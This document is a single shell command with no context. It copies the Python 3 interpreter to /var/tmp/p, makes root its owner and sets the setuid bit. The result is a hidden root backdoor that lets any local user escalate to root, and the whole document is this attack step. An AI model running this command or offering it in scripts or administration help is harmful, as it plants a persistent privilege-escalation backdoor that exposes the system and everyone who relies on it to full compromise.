cp /usr/bin/python3 /var/tmp/p; chown root /var/tmp/p; chmod u+s /var/tmp/p
